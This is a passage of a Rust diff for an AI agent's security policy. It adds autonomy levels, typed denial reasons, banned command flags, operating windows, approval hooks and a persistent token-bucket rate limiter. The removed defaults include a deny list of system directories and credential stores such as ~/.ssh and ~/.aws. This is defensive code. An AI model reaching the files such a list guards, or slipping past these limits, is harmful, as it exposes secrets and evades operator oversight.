@@ -1,12 +1,30 @@
+use crate::approval::{ApprovalRequest, ApprovalResponse};
+use crate::config::{OperatingWindowConfig, PathPermission, SecurityEventKind};
+use crate::security::audit::AuditLogger;
+use crate::security::egress::EgressGuard;
+use crate::security::env_filter::EnvFilter;
+use crate::security::escalation::{ActiveGrants, EscalationStore};
+use crate::security::events::{self, SecurityEvent};
+use crate::security::fs_guard::FsGuard;
+use crate::security::pending_approvals::{ApprovalTicket, PendingApprovals};
+use crate::tools::ToolExecutionContext;
+use async_trait::async_trait;
+use chrono::{DateTime, Datelike, Local, NaiveTime, Utc, Weekday};
+use chrono_tz::Tz;
 use parking_lot::Mutex;
 use reqwest::Url;
 use schemars::JsonSchema;
 use serde::{Deserialize, Serialize};
+use std::collections::HashMap;
 use std::path::{Path, PathBuf};
-use std::time::Instant;
-
-/// How much autonomy the agent has
-#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize, JsonSchema)]
+use std::sync::atomic::{AtomicBool, Ordering};
+use std::sync::Arc;
+use std::time::{Duration, Instant, SystemTime, UNIX_EPOCH};
+
+/// How much autonomy the agent has, ordered from least to most.
+#[derive(
+    Debug, Clone, Copy, Default, PartialEq, Eq, PartialOrd, Ord, Serialize, Deserialize, JsonSchema,
+)]
 #[serde(rename_all = "lowercase")]
 pub enum AutonomyLevel {
     /// Read-only: can observe but not act
@@ -14,7 +32,10 @@ pub enum AutonomyLevel {
     /// Supervised: acts but requires approval for risky operations
     #[default]
     Supervised,
-    /// Full: autonomous execution within policy bounds
+    /// Autonomous: acts without per-action approval; high-risk commands and
+    /// `require_approval` command rules still need `approved=true`
+    Autonomous,
+    /// Full: autonomous execution within policy bounds, no approvals
     Full,
 }
 
@@ -25,9 +46,10 @@ impl std::str::FromStr for AutonomyLevel {
         match s.to_ascii_lowercase().as_str() {
             "read_only" | "readonly" => Ok(Self::ReadOnly),
             "supervised" => Ok(Self::Supervised),
+            "autonomous" => Ok(Self::Autonomous),
             "full" => Ok(Self::Full),
             _ => Err(format!(
-                "invalid autonomy level '{s}': expected read_only, supervised, or full"
+                "invalid autonomy level '{s}': expected read_only, supervised, autonomous, or full"
             )),
         }
     }
@@ -48,6 +70,236 @@ pub enum ToolOperation {
     Act,
 }
 
+/// Budget a [`PolicyDenial::RateLimited`] call ran out of.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum RateLimitScope {
+    /// `max_actions_per_hour`.
+    Global,
+    /// `per_tool_limits` for the named tool.
+    Tool(String),
+    /// `max_actions_per_session` for the named session.
+    Session(String),
+    /// The action budget of the named capability token.
+    Capability(String),
+    /// `max_memory_entries_per_day`.
+    MemoryWrites,
+}
+
+/// Why the security policy refused a tool operation.
+///
+/// `Display` renders the message tools report in [`ToolResult`]s; callers
+/// that want to react (back off, reschedule, escalate) match on the variant.
+///
+/// [`ToolResult`]: crate::tools::ToolResult
+#[derive(Debug, Clone, PartialEq)]
+pub enum PolicyDenial {
+    /// The tool is disabled by `allowed_tools` / `denied_tools`.
+    ToolDenied { tool: String },
+    /// The workspace kill switch file exists.
+    KillSwitch { operation: String },
+    /// Autonomy is read-only.
+    ReadOnly { operation: String },
+    /// A daily token or cost budget is exhausted.
+    BudgetExceeded { reason: String, operation: String },
+    /// The call falls outside `operating_window`.
+    OutsideWindow { window: String, operation: String },
+    /// An action budget is exhausted. `retry_after` is how long until the
+    /// window frees a slot or the bucket refills a token; `None` when it
+    /// never will (session budgets). `burst` is the bucket capacity for the
+    /// token-bucket global budget.
+    RateLimited {
+        scope: RateLimitScope,
+        limit: u32,
+        burst: Option<u32>,
+        retry_after: Option<Duration>,
+    },
+    /// The operator declined the call through the approval hook.
+    ApprovalDenied { tool: String },
+    /// The call's arguments exceed `max_tool_input_bytes`.
+    InputTooLarge {
+        tool: String,
+        size: usize,
+        limit: usize,
+    },
+    /// The content scanner matched the call's arguments; `findings` lists
+    /// the matched rules.
+    ContentBlocked { tool: String, findings: String },
+    /// `denied_hosts` lists `host` (`listed`), or `allowed_hosts` is set and
+    /// omits it.
+    HostDenied { host: String, listed: bool },
+    /// `url` has no host the egress rules could check.
+    UnknownHost { url: String },
+    /// A delegated capability token does not cover the call.
+    CapabilityDenied { reason: String },
+    /// Storing the content would exceed `max_memory_bytes`.
+    MemoryQuota { limit: u64, stored: u64 },
+    /// The tool is cooling down after `denials` denials in a row, the last
+    /// one for `reason`.
+    Cooldown {
+        tool: String,
+        denials: u32,
+        reason: String,
+        retry_after: Duration,
+    },
+}
+
+/// Outcome of a policy check: `Ok` to proceed, or why not.
+pub type PolicyDecision = Result<(), PolicyDenial>;
+
+impl PolicyDenial {
+    /// How long to wait before the same call could pass, if it ever will
+    /// without a policy change.
+    pub fn retry_after(&self) -> Option<Duration> {
+        match self {
+            Self::RateLimited { retry_after, .. } => *retry_after,
+            Self::Cooldown { retry_after, .. } => Some(*retry_after),
+            _ => None,
+        }
+    }
+
+    /// Run `call` (one tool execution) and return its output together with
+    /// the first denial the policy raised while it ran, so a caller can tell
+    /// a refused call from one that failed without parsing its error text.
+    pub async fn capture<F: std::future::Future>(call: F) -> (F::Output, Option<Self>) {
+        CALL_DENIAL
+            .scope(Mutex::new(None), async move {
+                let output = call.await;
+                (output, CALL_DENIAL.with(|denial| denial.lock().take()))
+            })
+            .await
+    }
+
+    /// Report this denial to the enclosing [`Self::capture`], if any, and
+    /// hand it back. Every place that refuses a call on policy grounds
+    /// passes its denial through here.
+    pub fn surface(self) -> Self {
+        let _ = CALL_DENIAL.try_with(|denial| {
+            denial.lock().get_or_insert_with(|| self.clone());
+        });
+        self
+    }
+}
+
+tokio::task_local! {
+    /// Denial slot of the tool call [`PolicyDenial::capture`] is running.
+    static CALL_DENIAL: Mutex<Option<PolicyDenial>>;
+}
+
+impl std::fmt::Display for PolicyDenial {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        match self {
+            Self::ToolDenied { tool } => write!(
+                f,
+                "Security policy: tool '{tool}' is disabled by [autonomy] allowed_tools/denied_tools"
+            ),
+            Self::KillSwitch { operation } => write!(
+                f,
+                "Security policy: kill switch engaged (remove {} in the workspace to resume), cannot perform '{operation}'",
+                super::kill_switch::KILL_SWITCH_FILE
+            ),
+            Self::ReadOnly { operation } => write!(
+                f,
+                "Security policy: read-only mode, cannot perform '{operation}'"
+            ),
+            Self::BudgetExceeded { reason, operation } => write!(
+                f,
+                "Security policy: {reason}; read-only until usage falls under the budget, cannot perform '{operation}'"
+            ),
+            Self::OutsideWindow { window, operation } => write!(
+                f,
+                "Security policy: outside operating window ({window}), cannot perform '{operation}'"
+            ),
+            Self::RateLimited {
+                scope,
+                limit,
+                burst,
+                retry_after,
+            } => {
+                match scope {
+                    RateLimitScope::Global => write!(
+                        f,
+                        "Rate limit exceeded: global action budget exhausted ({limit} actions per hour)"
+                    )?,
+                    RateLimitScope::Tool(tool) => write!(
+                        f,
+                        "Rate limit exceeded: '{tool}' budget exhausted ({limit} actions per hour)"
+                    )?,
+                    RateLimitScope::Session(session) => write!(
+                        f,
+                        "Rate limit exceeded: session '{session}' budget exhausted ({limit} actions per session)"
+                    )?,
+                    RateLimitScope::Capability(_) => write!(
+                        f,
+                        "Rate limit exceeded: capability token budget exhausted ({limit} actions)"
+                    )?,
+                    RateLimitScope::MemoryWrites => write!(
+                        f,
+                        "Rate limit exceeded: memory write budget exhausted ({limit} entries per day)"
+                    )?,
+                }
+                if let Some(burst) = burst {
+                    write!(f, "; 0 of {burst} burst tokens left")?;
+                }
+                if let Some(wait) = retry_after {
+                    // Round up so the hint never undershoots the window.
+                    let secs = wait.as_secs() + u64::from(wait.subsec_nanos() > 0);
+                    write!(f, "; retry in {secs}s")?;
+                }
+                Ok(())
+            }
+            Self::ApprovalDenied { tool } => write!(f, "Operator denied '{tool}'"),
+            Self::InputTooLarge { tool, size, limit } => write!(
+                f,
+                "Security policy: arguments for '{tool}' are {size} bytes, over autonomy.max_tool_input_bytes ({limit})"
+            ),
+            Self::ContentBlocked { tool, findings } => write!(
+                f,
+                "Security policy: content scanner blocked '{tool}': {findings}"
+            ),
+            Self::HostDenied { host, listed: true } => write!(
+                f,
+                "Security policy: host '{host}' is in autonomy.denied_hosts"
+            ),
+            Self::HostDenied {
+                host,
+                listed: false,
+            } => write!(
+                f,
+                "Security policy: host '{host}' is not in autonomy.allowed_hosts"
+            ),
+            Self::UnknownHost { url } => write!(
+                f,
+                "Security policy: cannot determine the host of '{url}' for egress checks"
+            ),
+            Self::CapabilityDenied { reason } => write!(f, "Security policy: {reason}"),
+            Self::MemoryQuota { limit, stored } => write!(
+                f,
+                "Rate limit exceeded: memory quota of {limit} bytes reached ({stored} bytes stored)"
+            ),
+            Self::Cooldown {
+                tool,
+                denials,
+                reason,
+                retry_after,
+            } => {
+                let secs = retry_after.as_secs() + u64::from(retry_after.subsec_nanos() > 0);
+                write!(
+                    f,
+                    "Security policy: '{tool}' is cooling down after {denials} denials in a row, retry in {secs}s with a different approach; last denial: {reason}"
+                )
+            }
+        }
+    }
+}
+
+impl std::error::Error for PolicyDenial {}
+
+impl From<PolicyDenial> for String {
+    fn from(denial: PolicyDenial) -> Self {
+        denial.to_string()
+    }
+}
+
 /// Action applied when a command context rule matches.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
 pub enum CommandContextRuleAction {
@@ -67,17 +319,220 @@ pub struct CommandContextRule {
     pub allow_high_risk: bool,
 }
 
+/// Structured shell command limits from `[autonomy.command_policy]`,
+/// applied by [`SecurityPolicy::validate_command`].
+#[derive(Debug, Clone, Default)]
+pub struct CommandPolicy {
+    /// Lowercase binary name (or `"*"`) to the flags it may not be given.
+    pub banned_flags: HashMap<String, Vec<String>>,
+    /// Longest a command may run; the shell tool's default when `None`.
+    pub max_runtime: Option<Duration>,
+    /// Directories commands may run in; empty allows any directory that
+    /// passes the workspace path checks.
+    pub working_dirs: Vec<PathBuf>,
+}
+
+/// Short flags that take a value, by binary. In a bundle the rest of the
+/// argument after one of these is its value (`git commit -mfix`), not more
+/// flags.
+const SHORT_FLAGS_WITH_VALUES: &[(&str, &str)] = &[
+    ("git", "CcFmSu"),
+    ("grep", "ABCefm"),
+    ("rg", "ABCefgmt"),
+    ("sed", "ef"),
+    ("tar", "CfT"),
+    ("curl", "dHoOuXe"),
+    ("cargo", "jpZ"),
+];
+
+impl CommandPolicy {
+    /// First banned flag among `args` for `binary`, if any. A banned short
+    /// flag (`-f`) also matches inside a bundle (`-rf`) up to the first flag
+    /// that takes a value, and a banned long flag matches its
+    /// `--flag=value` form.
+    fn banned_flag(&self, binary: &str, args: &[&str]) -> Option<String> {
+        let binary = binary.to_ascii_lowercase();
+        let takes_value = SHORT_FLAGS_WITH_VALUES
+            .iter()
+            .find(|(name, _)| *name == binary)
+            .map_or("", |(_, flags)| *flags);
+        let banned = [binary.as_str(), "*"]
+            .into_iter()
+            .filter_map(|key| self.banned_flags.get(key))
+            .flatten();
+        for flag in banned {
+            let hit = args.iter().any(|arg| {
+                let arg = strip_wrapping_quotes(arg);
+                if arg == flag {
+                    return true;
+                }
+                if flag.starts_with("--") {
+                    return arg
+                        .strip_prefix(flag.as_str())
+                        .is_some_and(|rest| rest.starts_with('='));
+                }
+                match (flag.strip_prefix('-'), arg.strip_prefix('-')) {
+                    (Some(short), Some(bundle)) if short.len() == 1 && !bundle.starts_with('-') => {
+                        let flags = bundle
+                            .find(|c| takes_value.contains(c))
+                            .map_or(bundle, |i| &bundle[..=i]);
+                        flags.contains(short)
+                    }
+                    _ => false,
+                }
+            });
+            if hit {
+                return Some(flag.clone());
+            }
+        }
+        None
+    }
+}
+
+/// A command that passed [`SecurityPolicy::validate_command`].
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct ValidatedCommand {
+    pub risk: CommandRiskLevel,
+    /// Canonical directory to run the command in.
+    pub working_dir: PathBuf,
+    /// Runtime cap from the command policy, if one is set.
+    pub max_runtime: Option<Duration>,
+}
+
+/// Operating hours from `[autonomy.operating_window]`, outside which `Act`
+/// operations are refused.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct OperatingWindow {
+    pub start: NaiveTime,
+    /// Exclusive; before `start` when the window runs past midnight.
+    pub end: NaiveTime,
+    /// Days the window opens on. A window past midnight belongs to the day
+    /// it opened.
+    pub days: Vec<Weekday>,
+    /// Zone the window is expressed in; host local time when `None`.
+    pub timezone: Option<Tz>,
+}
+
+impl OperatingWindow {
+    pub fn from_config(config: &OperatingWindowConfig) -> anyhow::Result<Self> {
+        let parse_time = |key: &str, value: &str| {
+            NaiveTime::parse_from_str(value.trim(), "%H:%M")
+                .map_err(|_| anyhow::anyhow!("{key} must be HH:MM, got '{value}'"))
+        };
+        let start = parse_time("start", &config.start)?;
+        let end = parse_time("end", &config.end)?;
+        if start == end {
+            anyhow::bail!("start and end must differ");
+        }
+
+        let mut days = Vec::new();
+        for day in &config.days {
+            let weekday = day
+                .trim()
+                .parse::<Weekday>()
+                .map_err(|_| anyhow::anyhow!("unknown day '{day}'; expected mon ... sun"))?;
+            if !days.contains(&weekday) {
+                days.push(weekday);
+            }
+        }
+        if days.is_empty() {
+            days = (0..7).filter_map(|n| Weekday::try_from(n).ok()).collect();
+        }
+
+        let timezone = config
+            .timezone
+            .as_deref()
+            .map(|name| {
+                name.parse::<Tz>()
+                    .map_err(|_| anyhow::anyhow!("unknown timezone '{name}'"))
+            })
+            .transpose()?;
+
+        Ok(Self {
+            start,
+            end,
+            days,
+            timezone,
+        })
+    }
+
+    /// Whether `now` falls inside the window.
+    pub fn contains(&self, now: DateTime<Utc>) -> bool {
+        let (day, time) = match self.timezone {
+            Some(tz) => {
+                let local = now.with_timezone(&tz);
+                (local.weekday(), local.time())
+            }
+            None => {
+                let local = now.with_timezone(&Local);
+                (local.weekday(), local.time())
+            }
+        };
+        if self.start < self.end {
+            self.days.contains(&day) && time >= self.start && time < self.end
+        } else {
+            (time >= self.start && self.days.contains(&day))
+                || (time < self.end && self.days.contains(&day.pred()))
+        }
+    }
+}
+
+impl std::fmt::Display for OperatingWindow {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        write!(
+            f,
+            "{}-{}",
+            self.start.format("%H:%M"),
+            self.end.format("%H:%M")
+        )?;
+        if self.days.len() < 7 {
+            let days: Vec<String> = self.days.iter().map(ToString::to_string).collect();
+            write!(f, " {}", days.join(","))?;
+        }
+        if let Some(tz) = self.timezone {
+            write!(f, " {tz}")?;
+        }
+        Ok(())
+    }
+}
+
+/// Operator confirmation for side-effecting tool calls in supervised mode.
+///
+/// Installed as [`SecurityPolicy::approval_hook`] by embedders that have a
+/// human in the loop (a UI prompt, a chat message, a ticket). The returned
+/// future stays pending until the operator answers; the tool call does not
+/// wait for it, but reports the request as pending and runs once approved.
+/// `Always` is treated as `Yes`; hooks that want to remember grants keep
+/// that state themselves.
+#[async_trait]
+pub trait ApprovalHook: Send + Sync + std::fmt::Debug {
+    async fn request_approval(&self, request: &ApprovalRequest) -> ApprovalResponse;
+}
+
+/// Window for `max_memory_entries_per_day`.
+const MEMORY_QUOTA_WINDOW: Duration = Duration::from_secs(24 * 3600);
+
+/// Window for `max_tokens_per_day` and `max_cost_usd_per_day`.
+const LLM_BUDGET_WINDOW: Duration = Duration::from_secs(24 * 3600);
+
 /// Sliding-window action tracker for rate limiting.
 #[derive(Debug)]
 pub struct ActionTracker {
-    /// Timestamps of recent actions (kept within the last hour).
+    /// Timestamps of recent actions (kept within the window).
     actions: Mutex<Vec<Instant>>,
+    window: Duration,
 }
 
 impl ActionTracker {
+    /// Tracker with a one-hour window.
     pub fn new() -> Self {
+        Self::with_window(Duration::from_secs(3600))
+    }
+
+    pub fn with_window(window: Duration) -> Self {
         Self {
             actions: Mutex::new(Vec::new()),
+            window,
         }
     }
 
@@ -85,7 +540,7 @@ impl ActionTracker {
     pub fn record(&self) -> usize {
         let mut actions = self.actions.lock();
         let cutoff = Instant::now()
-            .checked_sub(std::time::Duration::from_secs(3600))
+            .checked_sub(self.window)
             .unwrap_or_else(Instant::now);
         actions.retain(|t| *t > cutoff);
         actions.push(Instant::now());
@@ -96,439 +551,1124 @@ impl ActionTracker {
     pub fn count(&self) -> usize {
         let mut actions = self.actions.lock();
         let cutoff = Instant::now()
-            .checked_sub(std::time::Duration::from_secs(3600))
+            .checked_sub(self.window)
             .unwrap_or_else(Instant::now);
         actions.retain(|t| *t > cutoff);
         actions.len()
     }
-}
 
-impl Clone for ActionTracker {
-    fn clone(&self) -> Self {
-        let actions = self.actions.lock();
-        Self {
-            actions: Mutex::new(actions.clone()),
+    /// Time until another action fits under `limit`, or `None` if one
+    /// already does (or never will, for a zero limit).
+    pub fn retry_after(&self, limit: usize) -> Option<Duration> {
+        if limit == 0 {
+            return None;
+        }
+        let now = Instant::now();
+        let mut times: Vec<Instant> = {
+            let mut actions = self.actions.lock();
+            let cutoff = now.checked_sub(self.window).unwrap_or(now);
+            actions.retain(|t| *t > cutoff);
+            actions.clone()
+        };
+        if times.len() < limit {
+            return None;
         }
+        times.sort_unstable();
+        // Once this action leaves the window, `limit - 1` remain.
+        let freeing = times[times.len() - limit];
+        Some((freeing + self.window).saturating_duration_since(now))
     }
 }
 
-/// Security policy enforced on all tool executions
-#[derive(Debug, Clone)]
-pub struct SecurityPolicy {
-    pub autonomy: AutonomyLevel,
-    pub workspace_dir: PathBuf,
-    pub workspace_only: bool,
-    pub allowed_commands: Vec<String>,
-    pub command_context_rules: Vec<CommandContextRule>,
-    pub forbidden_paths: Vec<String>,
-    pub allowed_roots: Vec<PathBuf>,
-    pub max_actions_per_hour: u32,
-    pub max_cost_per_day_cents: u32,
-    pub require_approval_for_medium_risk: bool,
-    pub block_high_risk_commands: bool,
-    pub shell_env_passthrough: Vec<String>,
-    pub allow_sensitive_file_reads: bool,
-    pub allow_sensitive_file_writes: bool,
-    pub tracker: ActionTracker,
+/// State file of the global action bucket, under the policy state
+/// directory ([`SecurityPolicy::state_dir`]).
+pub const RATE_LIMIT_STATE_FILE: &str = "ratelimit.json";
+
+/// Token bucket behind `max_actions_per_hour` and `max_actions_burst`.
+///
+/// The bucket holds up to `burst` tokens and refills at `per_hour` tokens an
+/// hour; each action takes one. Short bursts pass as long as tokens are
+/// left, while a sustained rate above `per_hour` runs it dry. Rate and burst
+/// are passed to each call, so a reloaded policy keeps the level it had.
+///
+/// The level is kept as the time the bucket would be full again (the GCRA
+/// "theoretical arrival time"), a single timestamp that is cheap to persist.
+#[derive(Debug)]
+pub struct ActionBucket {
+    /// When the bucket is full again; `None` while it is full.
+    full_at: Mutex<Option<Instant>>,
+    /// File the level is saved to when it changes, if any.
+    state_path: Option<PathBuf>,
+    /// The last save failed; retried on the next change and on drop.
+    unsaved: AtomicBool,
 }
 
-impl Default for SecurityPolicy {
-    fn default() -> Self {
+/// On-disk form of a persistent [`ActionBucket`].
+#[derive(Debug, Default, Serialize, Deserialize)]
+struct PersistedBucket {
+    /// Wall-clock time in Unix milliseconds at which the bucket is full.
+    #[serde(default)]
+    full_at_ms: u64,
+}
+
+impl ActionBucket {
+    /// Bucket that starts full and lives in memory.
+    pub fn new() -> Self {
         Self {
-            autonomy: AutonomyLevel::Supervised,
-            workspace_dir: PathBuf::from("."),
-            workspace_only: true,
-            allowed_commands: vec![
-                "git".into(),
-                "npm".into(),
-                "cargo".into(),
-                "mkdir".into(),
-                "touch".into(),
-                "cp".into(),
-                "mv".into(),
-                "ls".into(),
-                "cat".into(),
-                "grep".into(),
-                "find".into(),
-                "echo".into(),
-                "pwd".into(),
-                "wc".into(),
-                "head".into(),
-                "tail".into(),
-                "date".into(),
-            ],
-            command_context_rules: Vec::new(),
-            forbidden_paths: vec![
-                // System directories (blocked even when workspace_only=false)
-                "/etc".into(),
-                "/root".into(),
-                "/home".into(),
-                "/usr".into(),
-                "/bin".into(),
-                "/sbin".into(),
-                "/lib".into(),
-                "/opt".into(),
-                "/boot".into(),
-                "/dev".into(),
-                "/proc".into(),
-                "/sys".into(),
-                "/var".into(),
-                "/tmp".into(),
-                "/mnt".into(),
-                // Sensitive dotfiles
-                "~/.ssh".into(),
-                "~/.gnupg".into(),
-                "~/.aws".into(),
-                "~/.config".into(),
-            ],
-            allowed_roots: Vec::new(),
-            max_actions_per_hour: 100,
-            max_cost_per_day_cents: 1000,
-            require_approval_for_medium_risk: true,
-            block_high_risk_commands: true,
-            shell_env_passthrough: vec![],
-            allow_sensitive_file_reads: false,
-            allow_sensitive_file_writes: false,
-            tracker: ActionTracker::new(),
+            full_at: Mutex::new(None),
+            state_path: None,
+            unsaved: AtomicBool::new(false),
         }
     }
-}
 
-fn home_dir() -> Option<PathBuf> {
-    std::env::var_os("HOME").map(PathBuf::from)
-}
+    /// Bucket that survives restarts: the level is loaded from `path` and
+    /// written back whenever an action changes it, so a crashloop cannot
+    /// refill it. Each take re-reads the file under a lock beside it, so
+    /// processes sharing `path` draw on one bucket.
+    pub fn persistent(path: PathBuf) -> Self {
+        let full_at = load_bucket_level(&path);
+        Self {
+            full_at: Mutex::new(full_at),
+            state_path: Some(path),
+            unsaved: AtomicBool::new(false),
+        }
+    }
 
-fn expand_user_path(path: &str) -> PathBuf {
-    if path == "~" {
-        if let Some(home) = home_dir() {
-            return home;
+    /// Take a token. Returns the tokens left afterwards, or, when the bucket
+    /// is empty, how long until the next token (`None` for a zero rate,
+    /// which never refills).
+    pub fn take(&self, per_hour: u32, burst: u32) -> Result<u32, Option<Duration>> {
+        self.draw(per_hour, burst, true)
+    }
+
+    /// [`Self::take`] without taking: what a take would return now.
+    pub fn peek(&self, per_hour: u32, burst: u32) -> Result<u32, Option<Duration>> {
+        self.draw(per_hour, burst, false)
+    }
+
+    fn draw(&self, per_hour: u32, burst: u32, take: bool) -> Result<u32, Option<Duration>> {
+        let Some((interval, capacity)) = Self::shape(per_hour, burst) else {
+            return Err(None);
+        };
+        let mut full_at = self.full_at.lock();
+        let draw = |full_at: &mut Option<Instant>| {
+            self.reload(full_at);
+            let now = Instant::now();
+            let needed = Self::debt(now, *full_at, capacity) + interval;
+            if needed > capacity {
+                return Err(Some(needed - capacity));
+            }
+            if take {
+                *full_at = Some(now + needed);
+                self.save(needed);
+            }
+            Ok(Self::tokens(capacity - needed, interval))
+        };
+        if take {
+            self.with_state_lock(|| draw(&mut full_at))
+        } else {
+            draw(&mut full_at)
         }
     }
 
-    if let Some(stripped) = path.strip_prefix("~/") {
-        if let Some(home) = home_dir() {
-            return home.join(stripped);
+    /// Tokens left without taking one.
+    pub fn remaining(&self, per_hour: u32, burst: u32) -> u32 {
+        let Some((interval, capacity)) = Self::shape(per_hour, burst) else {
+            return 0;
+        };
+        let mut full_at = self.full_at.lock();
+        self.reload(&mut full_at);
+        Self::tokens(
+            capacity - Self::debt(Instant::now(), *full_at, capacity),
+            interval,
+        )
+    }
+
+    /// Refill interval and the time a full bucket takes to refill, or `None`
+    /// for a zero rate. A zero `burst` defaults to `per_hour`.
+    fn shape(per_hour: u32, burst: u32) -> Option<(Duration, Duration)> {
+        if per_hour == 0 {
+            return None;
         }
+        let burst = if burst == 0 { per_hour } else { burst };
+        let interval = Duration::from_secs(3600) / per_hour;
+        Some((interval, interval.saturating_mul(burst)))
     }
 
-    PathBuf::from(path)
-}
+    /// How far `full_at` lies ahead of `now`, capped at a full refill so a
+    /// lowered rate or burst never leaves a longer wait than it allows.
+    fn debt(now: Instant, full_at: Option<Instant>, capacity: Duration) -> Duration {
+        full_at
+            .map_or(Duration::ZERO, |at| at.saturating_duration_since(now))
+            .min(capacity)
+    }
 
-// ── Shell Command Parsing Utilities ───────────────────────────────────────
-// These helpers implement a minimal quote-aware shell lexer. They exist
-// because security validation must reason about the *structure* of a
-// command (separators, operators, quoting) rather than treating it as a
-// flat string — otherwise an attacker could hide dangerous sub-commands
-// inside quoted arguments or chained operators.
-/// Skip leading environment variable assignments (e.g. `FOO=bar cmd args`).
-/// Returns the remainder starting at the first non-assignment word.
-fn skip_env_assignments(s: &str) -> &str {
-    let mut rest = s;
-    loop {
-        let Some(word) = rest.split_whitespace().next() else {
-            return rest;
+    fn tokens(headroom: Duration, interval: Duration) -> u32 {
+        u32::try_from(headroom.as_nanos() / interval.as_nanos().max(1)).unwrap_or(u32::MAX)
+    }
+
+    /// Run `f` holding the lock other processes sharing the state file take
+    /// around their takes. In-memory buckets, and persistent ones whose lock
+    /// file cannot be opened, run `f` unlocked.
+    fn with_state_lock<R>(&self, f: impl FnOnce() -> R) -> R {
+        let Some(path) = self.state_path.as_deref() else {
+            return f();
         };
-        // Environment assignment: contains '=' and starts with a letter or underscore
-        if word.contains('=')
-            && word
-                .chars()
-                .next()
-                .is_some_and(|c| c.is_ascii_alphabetic() || c == '_')
-        {
-            // Advance past this word
-            rest = rest[word.len()..].trim_start();
-        } else {
-            return rest;
+        let file = path
+            .parent()
+            .map_or(Ok(()), std::fs::create_dir_all)
+            .and_then(|()| {
+                std::fs::OpenOptions::new()
+                    .create(true)
+                    .truncate(false)
+                    .write(true)
+                    .open(path.with_extension("lock"))
+            });
+        let mut lock = match file {
+            Ok(file) => fd_lock::RwLock::new(file),
+            Err(e) => {
+                tracing::warn!("Failed to lock rate limit state {}: {e}", path.display());
+                return f();
+            }
+        };
+        let _guard = lock.write();
+        f()
+    }
+
+    /// Catch up with actions another process has taken since this one last
+    /// read the state file. The later of the two levels wins.
+    fn reload(&self, full_at: &mut Option<Instant>) {
+        let Some(path) = self.state_path.as_deref() else {
+            return;
+        };
+        if let Some(saved) = load_bucket_level(path) {
+            *full_at = Some(full_at.map_or(saved, |current| current.max(saved)));
+        }
+    }
+
+    /// Save the level, `debt` from now. Best effort: a failed write only
+    /// costs persistence, never the action.
+    fn save(&self, debt: Duration) {
+        let Some(path) = self.state_path.as_deref() else {
+            return;
+        };
+        let full_at_ms = unix_millis(SystemTime::now())
+            .saturating_add(u64::try_from(debt.as_millis()).unwrap_or(u64::MAX));
+        let result = path
+            .parent()
+            .map_or(Ok(()), std::fs::create_dir_all)
+            .and_then(|()| {
+                let tmp = path.with_extension("json.tmp");
+                let json = serde_json::to_vec(&PersistedBucket { full_at_ms })?;
+                std::fs::write(&tmp, json)?;
+                std::fs::rename(&tmp, path)
+            });
+        self.unsaved.store(result.is_err(), Ordering::Relaxed);
+        if let Err(e) = result {
+            tracing::warn!("Failed to save rate limit state {}: {e}", path.display());
         }
     }
 }
 
-#[derive(Debug, Clone, Copy, PartialEq, Eq)]
-enum QuoteState {
-    None,
-    Single,
-    Double,
+/// Level saved in a bucket's state file by this or an earlier process.
+fn load_bucket_level(path: &Path) -> Option<Instant> {
+    let raw = std::fs::read_to_string(path).ok()?;
+    let persisted: PersistedBucket = match serde_json::from_str(&raw) {
+        Ok(persisted) => persisted,
+        Err(e) => {
+            tracing::warn!(
+                "Ignoring unreadable rate limit state {}: {e}",
+                path.display()
+            );
+            return None;
+        }
+    };
+    // A full-at time from a clock that has since been set back lies
+    // further ahead; the cap in `debt` bounds how much that can tighten.
+    // Compared at full precision: the saved time is rounded down, so a
+    // reload never reads as later than the level it came from.
+    let now = SystemTime::now()
+        .duration_since(UNIX_EPOCH)
+        .unwrap_or_default();
+    let ahead = Duration::from_millis(persisted.full_at_ms).saturating_sub(now);
+    (!ahead.is_zero()).then(|| Instant::now() + ahead)
 }
 
-/// Split a shell command into sub-commands by unquoted separators.
-///
-/// Separators:
-/// - `;` and newline
-/// - `|`
-/// - `&&`, `||`
-///
-/// Characters inside single or double quotes are treated as literals, so
-/// `sqlite3 db "SELECT 1; SELECT 2;"` remains a single segment.
-fn split_unquoted_segments(command: &str) -> Vec<String> {
-    let mut segments = Vec::new();
-    let mut current = String::new();
-    let mut quote = QuoteState::None;
-    let mut escaped = false;
-    let mut chars = command.chars().peekable();
+impl Drop for ActionBucket {
+    /// Retry a save that failed, so shutdown keeps the level if it can.
+    fn drop(&mut self) {
+        if !self.unsaved.load(Ordering::Relaxed) {
+            return;
+        }
+        if let Some(full_at) = *self.full_at.lock() {
+            self.save(full_at.saturating_duration_since(Instant::now()));
+        }
+    }
+}
 
-    let push_segment = |segments: &mut Vec<String>, current: &mut String| {
-        let trimmed = current.trim();
-        if !trimmed.is_empty() {
-            segments.push(trimmed.to_string());
+impl Default for ActionBucket {
+    fn default() -> Self {
+        Self::new()
+    }
+}
+
+impl Clone for ActionBucket {
+    fn clone(&self) -> Self {
+        Self {
+            full_at: Mutex::new(*self.full_at.lock()),
+            state_path: self.state_path.clone(),
+            unsaved: AtomicBool::new(self.unsaved.load(Ordering::Relaxed)),
         }
-        current.clear();
-    };
+    }
+}
 
-    while let Some(ch) = chars.next() {
-        match quote {
-            QuoteState::Single => {
-                if ch == '\'' {
-                    quote = QuoteState::None;
-                }
-                current.push(ch);
-            }
-            QuoteState::Double => {
-                if escaped {
-                    escaped = false;
-                    current.push(ch);
-                    continue;
-                }
-                if ch == '\\' {
-                    escaped = true;
-                    current.push(ch);
-                    continue;
-                }
-                if ch == '"' {
-                    quote = QuoteState::None;
-                }
-                current.push(ch);
-            }
-            QuoteState::None => {
-                if escaped {
-                    escaped = false;
-                    current.push(ch);
-                    continue;
-                }
-                if ch == '\\' {
-                    escaped = true;
-                    current.push(ch);
-                    continue;
-                }
+/// The global action budget seen as the hourly count it used to be; see
+/// [`SecurityPolicy::tracker`].
+#[derive(Debug, Clone, Copy)]
+pub struct ActionCount<'a> {
+    policy: &'a SecurityPolicy,
+}
 
-                match ch {
-                    '\'' => {
-                        quote = QuoteState::Single;
-                        current.push(ch);
-                    }
-                    '"' => {
-                        quote = QuoteState::Double;
-                        current.push(ch);
-                    }
-                    ';' | '\n' => push_segment(&mut segments, &mut current),
-                    '|' => {
